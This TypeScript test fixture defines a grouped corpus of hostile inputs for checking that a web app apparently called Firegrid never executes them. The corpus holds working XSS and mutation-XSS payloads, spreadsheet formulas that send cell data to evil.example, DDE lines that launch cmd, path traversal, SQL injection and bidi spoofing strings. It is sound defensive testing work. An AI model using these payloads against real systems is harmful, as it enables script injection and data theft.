/**
 * The hostile-input corpus of issue 9: strings a grid worker, a resident's tip-off, a host
 * backend or an attacker can put into Firegrid. Every string that would run code if it were
 * parsed as markup, evaluated as a template or followed as a URL sets the sentinel
 * `window.__fgPwned`; the gate checks it stays unset.
 */

/** The global every executable payload sets. */
export const SENTINEL = '__fgPwned';

/** One hostile string and why it is in the corpus. */
export interface HostileString {
  readonly value: string;
  readonly why: string;
}

/** A group of hostile strings of one kind. */
export interface HostileGroup {
  readonly name: string;
  readonly why: string;
  readonly strings: readonly HostileString[];
}

const s = (value: string, why: string): HostileString => ({ value, why });
const pwn = 'window.__fgPwned=1';

/** The corpus, grouped. */
export const hostileCorpus: readonly HostileGroup[] = [
  {
    name: 'markup',
    why: 'HTML and script injection: runs if a string reaches innerHTML, a fragment parser or unsafeHTML',
    strings: [
      s(`<script>${pwn}</script>`, 'the classic; runs through document.write or createContextualFragment'),
      s(`<img src=x onerror=${pwn}>`, 'runs through plain innerHTML, no script tag needed'),
      s(`<svg onload=${pwn}>`, 'SVG load handler fires on insertion'),
      s(`<svg><script>${pwn}</script></svg>`, 'SVG script, parsed in the foreign-content mode'),
      s(`<iframe srcdoc="<script>parent.__fgPwned=1</script>"></iframe>`, 'a nested document with its own script'),
      s(`<iframe src="javascript:parent.__fgPwned=1"></iframe>`, 'javascript: URL in a frame'),
      s(`<body onload=${pwn}>`, 'body handler, hoisted by the parser'),
      s(`<details open ontoggle=${pwn}>`, 'fires without any user interaction'),
      s(`<video><source onerror=${pwn}></video>`, 'media error handler'),
      s(`<audio src=x onerror=${pwn}>`, 'media error handler on the element itself'),
      s(`<input autofocus onfocus=${pwn}>`, 'steals focus and runs when focused'),
      s(`<marquee onstart=${pwn}>火</marquee>`, 'legacy element with its own event'),
      s(`"><img src=x onerror=${pwn}>`, 'breaks out of a double-quoted attribute'),
      s(`'><img src=x onerror=${pwn}>`, 'breaks out of a single-quoted attribute'),
      s(`</textarea><img src=x onerror=${pwn}>`, 'breaks out of a textarea when HTML is built by concatenation'),
      s(`</title><img src=x onerror=${pwn}>`, 'breaks out of a title (RCDATA)'),
      s(`</style><img src=x onerror=${pwn}>`, 'breaks out of a style element (RAWTEXT)'),
      s(`<object data="javascript:${pwn}"></object>`, 'plugin element with a javascript: URL'),
      s(`<embed src="javascript:${pwn}">`, 'plugin element with a javascript: URL'),
      s(`<math><mtext><table><mglyph><style><img src=x onerror=${pwn}>`, 'mutation XSS: harmless once, live after re-serialisation'),
      s(`<noscript><p title="</noscript><img src=x onerror=${pwn}>">`, 'mutation XSS through noscript parsing differences'),
      s(`<a href="javascript:${pwn}">点我查看</a>`, 'a link that runs code when followed'),
      s(`<form><button formaction="javascript:${pwn}">提交</button></form>`, 'form action override'),
      s(`<meta http-equiv="refresh" content="0;url=javascript:${pwn}">`, 'navigation by meta refresh'),
      s('<base href="https://evil.example/">', 'hijacks every relative URL on the page if it lands in the document'),
      s(`<template><img src=x onerror=${pwn}></template>`, 'inert until someone clones the template'),
      s(`<img src=x:x onerror=eval(atob('d2luZG93Ll9fZmdQd25lZD0x'))>`, 'payload hidden in base64 from naive filters'),
      s(`<IMG SRC=x OnErRoR=${pwn}>`, 'mixed case against case-sensitive filters'),
      s('<img src=x onerror="&#119;indow.__fgPwned=1">', 'entity-encoded handler body, decoded by the parser'),
      s(`&lt;img src=x onerror=${pwn}&gt;`, 'already escaped: goes live if something unescapes it twice'),
      s('<x-fg-pwned data-fg-pwned>注入</x-fg-pwned>', 'a plain marker element: any element parsed from a string is a failure'),
      s('<b>粗体</b><i>斜体</i>', 'harmless markup that must still show as text'),
    ],
  },
  {
    name: 'template',
    why: 'template and framework syntax: runs if a string is evaluated or compiled as a template',
    strings: [
      s(`\${${pwn}}`, 'JavaScript template literal evaluated with eval or new Function'),
      s(`{{constructor.constructor('${pwn}')()}}`, 'Angular/Vue-style expression sandbox escape'),
      s('<?lit$1234567$>', "Lit's own marker syntax inside a value"),
      s('<!--?lit$1234567$-->', "Lit's marker comment"),
      s('lit$1234567$', "Lit's attribute marker prefix"),
      s('{{7*7}}', 'server-side template injection probe (expects 49)'),
      s('#{7*7}', 'Ruby / Pug interpolation probe'),
      s('<%= 7*7 %>', 'EJS / ERB probe'),
      s(']]>', 'ends a CDATA section in XML exports'),
      s('<!--', 'an unterminated comment swallows what follows if concatenated into HTML'),
      s('-->', 'closes a comment early'),
    ],
  },
  {
    name: 'url',
    why: 'URLs: fields that become links (tel:, a tip-off QR code, a photo URL) must not follow foreign schemes',
    strings: [
      s(`javascript:${pwn}`, 'javascript: URL'),
      s(` JaVaScRiPt:${pwn}`, 'leading space and mixed case against prefix checks'),
      s(`java\tscript:${pwn}`, 'the URL parser strips tabs, naive checks do not'),
      s('data:text/html,<script>parent.__fgPwned=1</script>', 'a document in a data: URL'),
      s('vbscript:msgbox(1)', 'legacy script scheme'),
      s(`https://evil.example/?q="><img src=x onerror=${pwn}>`, 'a real URL that also breaks out of an attribute'),
      s('//evil.example/qr', 'protocol-relative URL to a foreign host'),
      s(`tel:12345;${pwn}`, 'a phone link carrying script'),
    ],
  },
  {
    name: 'css',
    why: 'CSS: a value that reaches a style attribute or a style sheet',
    strings: [
      s(`red;background:url("javascript:${pwn}")`, 'declaration injection with a script URL'),
      s(`expression(${pwn})`, 'legacy IE expression()'),
      s('</style><style>*{display:none!important}</style>', 'hides the whole page if injected'),
      s('--fg-color-primary: transparent', 'overrides a theme custom property'),
      s('@import url(//evil.example/x.css);', 'loads a foreign style sheet'),
    ],
  },
  {
    name: 'long',
    why: 'very long text: layout, storage limits and typing speed',
    strings: [
      s('A'.repeat(10_000), 'ten thousand characters in one field'),
      s('火'.repeat(5_000), 'long CJK text'),
      s('W'.repeat(300), 'one word with no break opportunity: must wrap, not widen the page'),
      s('隐患 '.repeat(2_000), 'six thousand characters of words (pasting far more words into a textarea takes Chromium itself seconds)'),
      s('x'.repeat(100_000), 'one hundred thousand characters'),
      s(`${'\n'.repeat(1_000)}完`, 'a thousand line breaks'),
      s(`https://example.com/${'a/'.repeat(2_000)}`, 'a very long URL'),
    ],
  },
  {
    name: 'control',
    why: 'control characters: C strings, CSV rows, terminals and single-line fields',
    strings: [
      s('\u0000', 'NUL, ends C strings and some database text'),
      s('前\u0000后', 'NUL inside text'),
      s('\u0007\u0008', 'bell and backspace'),
      s('第一行\n第二行', 'a line break in a single-line field'),
      s('第一行\r\n第二行', 'CRLF: a new row in a naive CSV'),
      s('左\t右', 'a tab: a new column in TSV'),
      s('\u001b[31m红色\u001b[0m', 'ANSI escape sequences in logs'),
      s('\u007f', 'DEL'),
      s('\u0085', 'NEL, a C1 line break'),
      s('\u2028\u2029', 'line and paragraph separators, once fatal in JSON inside script'),
      s('\u000b\u000c', 'vertical tab and form feed'),
      s('\r', 'a lone carriage return'),
      s('\u009b31m', 'C1 control sequence introducer'),
    ],
  },
  {
    name: 'bidi',
    why: 'bidirectional and invisible format characters: spoof what a person reads',
    strings: [
      s('\u202eexe.pdf\u202c', 'right-to-left override reverses what follows'),
      s('发票\u202egnp.exe', 'the classic file-name spoof'),
      s('\u202d左到右', 'left-to-right override'),
      s('\u2066未闭合', 'an unterminated left-to-right isolate'),
      s('\u2067abc', 'an unterminated right-to-left isolate'),
      s('\u2068first strong', 'first-strong isolate'),
      s('\u2069', 'a lone pop-directional-isolate'),
      s('\u061c', 'Arabic letter mark'),
      s('\u200e\u200f', 'LRM and RLM'),
      s('张三\u202e\u2066 // 管理员\u2069\u2066', 'Trojan Source: text that reads differently than it is'),
      s('\u200b', 'a zero-width space: looks empty but is not'),
      s('\u200c\u200d', 'zero-width non-joiner and joiner'),
      s('\ufeff', 'a byte-order mark inside text'),
      s('\u00ad', 'a soft hyphen'),
      s('\u2060', 'a word joiner'),
      s('\u180e', 'Mongolian vowel separator, once whitespace'),
    ],
  },
  {
    name: 'emoji',
    why: 'emoji and complex scripts: length, cursor movement and shaping',
    strings: [
      s('👨‍👩‍👧‍👦', 'a family: one glyph of seven code points joined by ZWJ'),
      s('🇨🇳🏳️‍🌈', 'flags from regional indicators and a ZWJ sequence'),
      s('👍🏽', 'a skin-tone modifier'),
      s('1️⃣', 'a keycap sequence'),
      s('Z̴̡̪̫͖̥̔̿̃̈̏̎͠͝A̸̢̧͎̠̗̰͊̉̐L̶̢̛̟̲̭̥͕̓̈́G̵̨̛̤̩̟̀̽͐O̵̢̡̯̺̓̽̔', 'zalgo: stacked combining marks overflow the line'),
      s('𠀀𪚥𰻞', 'CJK outside the BMP (surrogate pairs)'),
      s('﷽', 'one of the widest glyphs'),
      s('ཨོཾ་མ་ཎི་པདྨེ་ཧཱུྃ', 'Tibetan stacking'),
      s('مرحبا بالعالم', 'Arabic, right to left'),
      s('שָׁלוֹם', 'Hebrew with points'),
      s('ᄀᄀᄀ각ᆨᆨ', 'Hangul jamo that compose'),
      s('🔥'.repeat(500), 'five hundred emoji'),
      s('İıŞş', 'Turkish dotted and dotless i: case mapping changes length'),
      s('Straße ﬁ', 'ß and a ligature: uppercasing changes length'),
    ],
  },
  {
    name: 'surrogates',
    why: 'lone surrogates: invalid UTF-16 that breaks encoders, JSON and IndexedDB keys',
    strings: [
      s('\ud800', 'a lone high surrogate'),
      s('\udfff', 'a lone low surrogate'),
      s('a\ud800b', 'a lone high surrogate inside text'),
      s('\udc00\ud800', 'a pair in the wrong order'),
      s('火\ud83d', 'an emoji cut in half at the end'),
      s('\ud83d\ud83d', 'two high surrogates'),
    ],
  },
  {
    name: 'formula',
    why: 'formula prefixes: a spreadsheet runs these when an export is opened (CSV/Excel injection)',
    strings: [
      s('=1+1', 'a formula'),
      s('=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")', 'exfiltrates a cell through a link'),
      s('+1+1', 'plus starts a formula'),
      s('-1+1', 'minus starts a formula'),
      s('@SUM(1+1)', 'at starts a formula in Excel'),
      s("=cmd|' /C calc'!A0", 'DDE: runs a program'),
      s("+cmd|' /C notepad'!A0", 'DDE behind a plus'),
      s('\t=1+1', 'a tab before the equals sign'),
      s('\r=1+1', 'a carriage return before the equals sign'),
      s('=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")', 'Google Sheets exfiltration'),
      s('＝1+1', 'a full-width equals sign, normalised by some spreadsheets'),
      s('=1+1,=2+2', 'a comma that splits a naive CSV into two formulas'),
      s('"=1+1"', 'quotes around a formula'),
    ],
  },
  {
    name: 'structure',
    why: 'values that mean something to code: object keys, paths, literals, query languages',
    strings: [
      s('__proto__', 'prototype pollution through a key or a name'),
      s('constructor', 'an inherited property name'),
      s('toString', 'an inherited method name'),
      s('{"__proto__":{"fgPolluted":true}}', 'pollution through JSON merge'),
      s('../../../etc/passwd', 'path traversal in a file or media name'),
      s('..\\..\\windows\\win.ini', 'Windows path traversal'),
      s('%3Cscript%3Ewindow.__fgPwned%3D1%3C%2Fscript%3E', 'percent-encoded script: live if decoded into markup'),
      s('null', 'a literal that naive code turns into null'),
      s('undefined', 'a literal that naive code turns into undefined'),
      s('NaN', 'not a number'),
      s('-0', 'negative zero'),
      s('1e309', 'overflows to Infinity'),
      s('0x1F', 'hex that parseInt reads'),
      s('[object Object]', 'what a stringified object looks like'),
      s("' OR '1'='1' --", 'SQL injection'),
      s('"; DROP TABLE hazards; --', 'SQL injection ending a statement'),
      s('{"$gt": ""}', 'NoSQL operator injection'),
      s('%s%s%s%n', 'printf format string'),
      s('{0}{1}', '.NET format string'),
    ],
  },
  {
    name: 'blank',
    why: 'text that looks empty: required-field checks and trimming',
    strings: [
      s(' ', 'a single space'),
      s('   ', 'only spaces'),
      s('\u00a0', 'a no-break space'),
      s('\u3000\u3000', 'ideographic spaces, common in Chinese input'),
    ],
  },
];

/** Every hostile string, in corpus order. */
export const hostileStrings: readonly string[] = hostileCorpus.flatMap((g) => g.strings.map((x) => x.value));

/** The strings that start with a formula prefix (what an export must neutralise). */
export const formulaStrings: readonly string[] = hostileStrings.filter((v) => /^[=+\-@\t\r]/.test(v));

/**
 * Splits the corpus into `rounds` interleaved chunks, so that every chunk holds strings of many
 * groups and the chunks together hold every string once.
 */
export function corpusChunks(rounds: number): string[][] {
  const chunks: string[][] = Array.from({ length: rounds }, () => []);
  hostileStrings.forEach((v, i) => chunks[i % rounds]?.push(v));
  return chunks;
}
